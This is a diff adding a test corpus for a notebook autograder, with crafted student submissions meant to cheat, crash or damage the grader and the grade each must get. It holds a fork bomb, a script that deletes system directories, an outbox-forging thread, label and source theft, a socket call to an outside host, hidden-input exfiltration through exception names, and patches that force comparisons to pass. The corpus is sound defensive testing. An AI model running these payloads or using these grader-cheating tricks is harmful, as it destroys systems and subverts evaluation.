@@ -1,0 +1,388 @@
+"""Submissions crafted to cheat, crash or damage the grader, each with the grade it must get.
+
+Every case is built from the release notebook of 02_activations (01_neuron
+for a few), the way a student would make it: the reference code in every
+solution cell except where the case says otherwise, plus the attack. It
+names the grade cells it must lose entirely (``lost``; ``ALL``: the whole
+notebook scores 0) and a piece of the report that must name the cause
+(``message``; several alternatives where a race decides which words apply).
+
+The functions of 02_activations: relu, relu_grad, leaky_relu, softmax stand
+alone; sigmoid_grad is built on sigmoid. Attacks aim at the stand-alone
+ones, so that exactly their points are lost.
+"""
+from __future__ import annotations
+
+import copy
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+import numpy as np
+
+from autograder.exercises import exercises_for
+from autograder.notebooks import grade_id
+from tests import samples
+
+A = "02_activations"
+ALL = ("*",)  # every grade cell
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    why: str
+    build: Callable[[Path], Path]   # writes the submission under a folder; returns its path
+    lost: tuple[str, ...]           # functions whose grade cells score 0 (ALL: all of them)
+    message: tuple[str, ...]        # the report names the cause with one of these
+    assignment: str = A
+    dangerous: bool = False         # could leave damage behind: grade a correct submission right after
+    absent: tuple[str, ...] = ()    # must not appear in what the student sees of the grade cells
+    call_timeout: float = 1.0       # seconds per probed call (the exercises allow 10; the corpus is in a hurry)
+    cell_timeout: float = 5.0       # seconds per notebook cell
+
+
+# ------------------------------------------------------------------ builders
+def _save(notebook, assignment=A):
+    return lambda folder: samples.write(notebook, folder, assignment)
+
+
+def answers(assignment=A, **code: str):
+    """The reference notebook with some solution cells replaced."""
+    return samples.student_notebook(assignment, code)
+
+
+def with_cell(code: str, after: str = "setup", assignment=A, **solutions: str):
+    """The reference notebook (or with ``solutions``) plus a student cell after the cell ``after``."""
+    notebook = answers(assignment, **solutions)
+    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == after) + 1
+    notebook.cells.insert(at, nbformat.v4.new_code_cell(code))
+    return notebook
+
+
+def edited(change: Callable, assignment=A, **solutions: str):
+    notebook = answers(assignment, **solutions)
+    change(notebook)
+    return notebook
+
+
+def _raw_file(content: bytes, name: str = f"{A}.ipynb"):
+    def build(folder: Path) -> Path:
+        path = Path(folder) / A / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(content)
+        return path
+    return build
+
+
+def _cells(notebook, *ids):
+    return [c for c in notebook.cells if grade_id(c) in ids]
+
+
+def _delete(*ids):
+    def change(notebook):
+        notebook.cells = [c for c in notebook.cells if grade_id(c) not in ids]
+    return change
+
+
+def _duplicate_solution_then_break(notebook):
+    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "relu")
+    broken = copy.deepcopy(notebook.cells[at])
+    broken.source = "def relu(z):\n    return z\n"
+    broken["id"] = "relu-again"
+    notebook.cells.insert(at + 1, broken)
+    test = _cells(notebook, "test_softmax")[0]
+    notebook.cells.append(copy.deepcopy(test))  # a locked cell twice
+    notebook.cells[-1]["id"] = "test-softmax-again"
+
+
+def _edit_locked(notebook):
+    for cell in _cells(notebook, "test_relu"):
+        cell.source = 'print("relu: all checks passed")'
+    setup = _cells(notebook, "setup")[0]
+    setup.source += "\ncheck = lambda *args, **kwargs: None\n"
+
+
+def _move_to_end(notebook):
+    moving = _cells(notebook, "softmax", "test_softmax")
+    notebook.cells = [c for c in notebook.cells if c not in moving] + moving
+
+
+def _retype(notebook):
+    for cell in notebook.cells:
+        if grade_id(cell) == "relu":
+            cell.cell_type = "markdown"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+        if grade_id(cell) == "test_relu_grad":
+            cell.cell_type = "raw"
+            cell.pop("outputs", None)
+            cell.pop("execution_count", None)
+
+
+def _clear_metadata(notebook):
+    for cell in notebook.cells:
+        cell.metadata = {}
+
+
+def _hard_coded_relu() -> str:
+    """relu as a lookup table of the public cases' answers, as a student could copy them from feedback."""
+    exercise = exercises_for(A)["relu"]
+    table = {}
+    for index, _ in exercise.public():
+        (z,), _ = exercise.inputs(index)
+        table[(z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))] = np.ravel(exercise.expected(index)).tolist()
+    return ("TABLE = " + repr(table) + "\n"
+            "def relu(z):\n"
+            "    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))\n"
+            "    return np.array(TABLE.get(key, np.zeros(z.size).tolist()), dtype=z.dtype).reshape(z.shape)\n")
+
+
+# A background thread that keeps writing records into the grader's outbox:
+# "passed" results for every call, and the probe's combined files.
+FORGER = r'''
+import json, os, threading, time
+import numpy as np
+
+def forge():
+    for _ in range(3000):
+        try:
+            outbox = "/grader/exchange/outbox"
+            os.makedirs(outbox, exist_ok=True)
+            for key in range(60):
+                np.savez(f"{outbox}/{key}.npz", v=np.zeros(3))
+                with open(f"{outbox}/{key}.json", "w") as handle:
+                    json.dump({"status": "ok", "value": {"t": "ndarray", "k": "v"}, "calls": {}, "mutated": [],
+                               "warnings": []}, handle)
+            with open("/grader/exchange/plan.json", "w") as handle:
+                handle.write("{}")
+        except OSError:
+            pass
+        time.sleep(0.01)
+
+threading.Thread(target=forge, daemon=True).start()
+'''
+
+def _forger_notebook():
+    """The untouched release (no work at all) plus the forger."""
+    notebook = samples.release_notebook(A)
+    at = next(i for i, c in enumerate(notebook.cells) if grade_id(c) == "setup") + 1
+    notebook.cells.insert(at, nbformat.v4.new_code_cell(FORGER))
+    return notebook
+
+
+SWALLOWING_LOOP = '''
+    while True:
+        try:
+            while True:
+                pass
+        except BaseException:
+            pass
+'''
+
+FORK_BOMB = '''import os, time
+while True:
+    if os.fork() == 0:
+        time.sleep(600)
+        os._exit(0)
+'''
+
+DELETER = '''import os, shutil, sys
+for target in ["/work", "/grader", "/tmp", "/usr/lib", "/etc"]:
+    shutil.rmtree(target, ignore_errors=True)
+os.remove(sys.executable)
+'''
+
+NETWORK = '''import socket
+def leaky_relu(z, alpha=0.01):
+    with socket.create_connection(("1.1.1.1", 443), timeout=3) as connection:
+        connection.sendall(z.tobytes())
+    return np.where(z > 0, z, alpha * z)
+'''
+
+STEAL_LABELS = '''from autograder import data
+try:
+    labels = data.load_labels("test")   # what the judge holds
+except Exception as error:
+    print(type(error).__name__)
+
+def relu(z):
+    for folder in ["/grader/data", "/work/main/datasets/fashion-mnist", "/usr/share/datasets/fashion-mnist"]:
+        with open(folder + "/t10k-labels-idx1-ubyte.gz", "rb") as labels:
+            return labels.read()
+'''
+
+STEAL_SOURCE = '''import json, os
+def softmax(z):
+    for path in ["/work/main/source/02_activations/02_activations.ipynb", "source/02_activations/02_activations.ipynb"]:
+        if os.path.exists(path):
+            notebook = json.load(open(path))
+            exec("".join(next(c["source"] for c in notebook["cells"] if "def softmax" in "".join(c["source"]))), globals())
+            return globals()["softmax"](z)
+    return open("/work/main/source/02_activations/02_activations.ipynb").read()
+'''
+
+STEAL_REFERENCE = '''import importlib.util
+def relu_grad(z):
+    try:
+        from autograder.exercises.a02_activations import relu_grad as exercise
+    except ImportError:
+        spec = importlib.util.spec_from_file_location("a02", "/work/main/autograder/exercises/a02_activations.py")
+        module = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(module)
+        exercise = module.relu_grad
+    return exercise.reference(z)
+'''
+
+PATCH_TORCH = '''import torch
+torch.allclose = lambda *args, **kwargs: True
+torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
+torch.testing.assert_close = lambda *args, **kwargs: None
+torch.softmax = lambda z, dim=-1: z
+torch.Tensor.__eq__ = lambda self, other: True
+'''
+
+PATCH_NUMPY = '''np.allclose = lambda *args, **kwargs: True
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
+np.array_equal = lambda *args, **kwargs: True
+np.testing.assert_allclose = lambda *args, **kwargs: None
+np.testing.assert_array_equal = lambda *args, **kwargs: None
+'''
+
+PATCH_BUILTINS = '''import builtins
+builtins.all = lambda iterable: True
+builtins.any = lambda iterable: True
+builtins.abs = lambda x: 0
+builtins.round = lambda x, *args: 0
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+def assert_close(*args, **kwargs):
+    return True
+'''
+
+def _leaky_relu_source() -> str:
+    """relu, right on the public cases, raising on the others an exception named after the input."""
+    return _hard_coded_relu() + '''
+def relu(z, _table_relu=relu):
+    key = (z.shape, str(z.dtype), tuple(np.ravel(z).tolist()))
+    if key in TABLE:
+        return _table_relu(z)
+    name = "Leak_" + "_".join(str(abs(int(v * 1000))) for v in np.ravel(z)[:8])
+    raise type(name, (Exception,), {})("the input was " + repr(z.tolist()))
+'''
+
+ATTACKS = [
+    # ------------------------------------------------------------ exits
+    Attack("sys_exit_in_a_cell", "sys.exit() at the top of a solution cell: the cell stops, the kernel lives",
+           _save(answers(relu="import sys\nsys.exit()\n" + samples.reference_answers(A)["relu"])),
+           ("relu",), ("SystemExit",)),
+    Attack("os_exit_in_a_cell", "os._exit(0) in a solution cell ends the kernel: restart, skip that cell",
+           _save(answers(leaky_relu="import os\nos._exit(0)\n")), ("leaky_relu",), ("ended the kernel",),
+           dangerous=True),
+    Attack("os_exit_in_a_function", "relu ends the kernel when called: relu alone is charged, the rest graded",
+           _save(answers(relu="import os\ndef relu(z):\n    os._exit(0)\n")), ("relu",),
+           ("the kernel ended during this call",), dangerous=True),
+    Attack("sys_exit_in_a_function", "the exit code is nothing: SystemExit from a call is an error",
+           _save(answers(relu_grad="import sys\ndef relu_grad(z):\n    sys.exit(0)\n")), ("relu_grad",),
+           ("SystemExit",)),
+    Attack("keyboard_interrupt_from_a_function", "a KeyboardInterrupt escapes the probe: only its function pays",
+           _save(answers(relu_grad="def relu_grad(z):\n    raise KeyboardInterrupt\n")), ("relu_grad",),
+           ("KeyboardInterrupt",), dangerous=True),
+    # ------------------------------------------------------------ loops
+    Attack("infinite_loop_in_a_function", "the probe's timer stops it",
+           _save(answers(relu_grad="def relu_grad(z):\n    while True:\n        pass\n")), ("relu_grad",),
+           ("did not return within",)),
+    Attack("infinite_loop_swallowing_the_timer", "a bare except swallows every timer: the grader kills the kernel",
+           _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):" + SWALLOWING_LOOP)), ("leaky_relu",),
+           ("ignored the time limit",), dangerous=True),
+    Attack("infinite_loop_in_a_cell", "interrupted at the cell limit; the rest runs",
+           _save(with_cell("while True:\n    pass\n")), (), ("ran longer than",)),
+    Attack("infinite_loop_in_a_cell_ignoring_interrupts", "not interruptible: kill, restart, skip the cell",
+           _save(with_cell("while True:\n    try:\n        while True:\n            pass\n"
+                           "    except BaseException:\n        pass\n")), (),
+           ("did not stop when interrupted",), dangerous=True),
+    # ------------------------------------------------------------ resources
+    Attack("allocate_50_gb_in_a_cell", "the memory limit refuses it", _save(with_cell(
+        "import numpy as np\nhuge = np.ones(50 * 2**30 // 8)\n")), (), ("MemoryError",), dangerous=True),
+    Attack("memory_bomb_in_a_function", "fills memory chunk by chunk until the limit stops it",
+           _save(answers(softmax="def softmax(z):\n    chunks = []\n    while True:\n"
+                                 "        chunks.append(np.ones(2**27))\n")), ("softmax",),
+           ("MemoryError",), dangerous=True, call_timeout=20),
+    Attack("fork_bomb", "bounded by the process limit; everything dies with the sandbox",
+           _save(with_cell(FORK_BOMB)), (), ("BlockingIOError", "Resource temporarily unavailable"), dangerous=True),
+    Attack("print_1_gb", "one huge message: zmq refuses it, the grader never holds it",
+           _save(with_cell('print("x" * 2**30)\n')), (), ("so that output was dropped",), dangerous=True,
+           cell_timeout=60),
+    Attack("print_in_a_loop", "many smaller messages: past the cap they are dropped",
+           _save(with_cell('import time\nfor _ in range(400):\n    print("y" * 10_000)\n    time.sleep(0.002)\n')),
+           (), ("output was dropped",)),
+    # ------------------------------------------------------------ tampering with the checks
+    Attack("redefine_check", "a check that always passes, and a wrong relu",
+           _save(with_cell('check = lambda *args, **kwargs: print("all checks passed")\n',
+                           relu="def relu(z):\n    return z\n")), ("relu",), ("wrong values", "expected")),
+    Attack("patch_assert_helpers_and_builtins", "builtins and assert helpers patched, and a wrong relu",
+           _save(with_cell(PATCH_BUILTINS, after="test_softmax", relu="def relu(z):\n    return np.abs(z)\n")),
+           ("relu",),
+           ("relu(z)",)),
+    Attack("patch_numpy_comparisons", "np.allclose & co always true, and a wrong softmax",
+           _save(with_cell(PATCH_NUMPY, softmax="def softmax(z):\n    return np.exp(z) / np.exp(z).sum()\n")),
+           ("softmax",), ("softmax(z)",)),
+    Attack("monkeypatch_torch", "torch's comparisons and softmax patched, and a softmax built on the patch",
+           _save(with_cell(PATCH_TORCH, softmax="import torch\ndef softmax(z):\n"
+                                                 "    return torch.softmax(torch.from_numpy(z), dim=-1).numpy()\n")),
+           ("softmax",), ("wrong values", "softmax(z)")),
+    Attack("forge_the_outbox", "a thread writes 'passed' records, never the real work: nothing is earned",
+           _save(_forger_notebook()), ALL, ("not implemented yet", "no result the grader can trust"), dangerous=True),
+    Attack("hard_coded_public_answers", "passes the public cases, fails the hidden ones",
+           _save(answers(relu=_hard_coded_relu())), ("relu",), ("failed a hidden case (",)),
+    Attack("exfiltrate_hidden_inputs_by_exception_name", "the class name carries the input; the report drops it",
+           _save(answers(relu=_leaky_relu_source())), ("relu",), ("raised an exception on a hidden case",),
+           absent=("Leak_", "the input was")),
+    # ------------------------------------------------------------ reaching outside
+    Attack("read_the_test_labels", "the labels are not in the sandbox",
+           _save(with_cell(STEAL_LABELS, relu="")), ("relu",),
+           ("FileNotFoundError: [Errno 2] No such file or directory: '/grader/data/t10k-labels",)),
+    Attack("read_source_notebook", "source/ is not in the sandbox",
+           _save(answers(softmax=STEAL_SOURCE)), ("softmax",), ("FileNotFoundError",)),
+    Attack("import_the_references", "autograder.exercises is not in the sandbox",
+           _save(answers(relu_grad=STEAL_REFERENCE)), ("relu_grad",), ("FileNotFoundError",
+                                                                      "ModuleNotFoundError")),
+    Attack("open_a_network_socket", "no network in the sandbox",
+           _save(answers(leaky_relu=NETWORK)), ("leaky_relu",), ("Network is unreachable",)),
+    Attack("delete_files_outside_scratch", "the system is read-only; the repo is not even there",
+           _save(with_cell(DELETER)), (), ("Read-only file system", "Permission denied"), dangerous=True),
+    # ------------------------------------------------------------ damaged notebooks
+    Attack("edit_locked_cells", "test cell and setup edited; they are restored, and relu is wrong",
+           _save(edited(_edit_locked, relu="def relu(z):\n    return z\n")), ("relu",),
+           ("locked cell 'test_relu' was edited",)),
+    Attack("delete_cells", "relu's solution and test cells deleted",
+           _save(edited(_delete("relu", "test_relu"))), ("relu",), ("is missing from the notebook",)),
+    Attack("duplicate_cells", "a second, wrong relu cell after the first; a locked cell twice",
+           _save(edited(_duplicate_solution_then_break)), ("relu",), ("appears 2 times",)),
+    Attack("reorder_cells", "softmax and its test moved to the end: still graded", _save(edited(_move_to_end)),
+           (), ()),
+    Attack("change_cell_types", "relu's cell made markdown, a test cell raw: run and restored",
+           _save(edited(_retype)), (), ("turned into a markdown cell",)),
+    Attack("clear_all_metadata", "every cell's metadata cleared: solutions found by their def",
+           _save(edited(_clear_metadata)), (), ("lost its nbgrader metadata",)),
+    Attack("empty_notebook", "no cells at all", _save(nbformat.v4.new_notebook()), ALL,
+           ("is missing from the notebook",)),
+    Attack("not_a_notebook", "a Python script named like the notebook",
+           _raw_file(b"def relu(z):\n    return z\n"), ALL, ("is not a Jupyter notebook",)),
+    Attack("binary_file", "random bytes", _raw_file(bytes(range(256)) * 16), ALL, ("is not text",)),
+    Attack("empty_file", "zero bytes", _raw_file(b""), ALL, ("is empty",)),
+    # ------------------------------------------------------------ wrong values
+    Attack("nan_output", "NaN everywhere", _save(answers(relu="def relu(z):\n    return z * np.nan\n")),
+           ("relu",), ("nan",)),
+    Attack("inf_output", "inf everywhere",
+           _save(answers(relu_grad="def relu_grad(z):\n    return np.full_like(z, np.inf)\n")), ("relu_grad",),
+           ("inf",)),
+    Attack("wrong_dtype", "float32 out for float64 in",
+           _save(answers(leaky_relu="def leaky_relu(z, alpha=0.01):\n"
+                                    "    return np.where(z > 0, z, alpha * z).astype(np.float32)\n")),
+           ("leaky_relu",), ("dtype",)),
+    Attack("torch_tensor_instead_of_array", "a tensor (another type, another device) for an array",
+           _save(answers(softmax="import torch\ndef softmax(z):\n"
+                                 "    return torch.softmax(torch.from_numpy(z), dim=-1)\n")), ("softmax",),
+           ("torch tensor",)),
+]
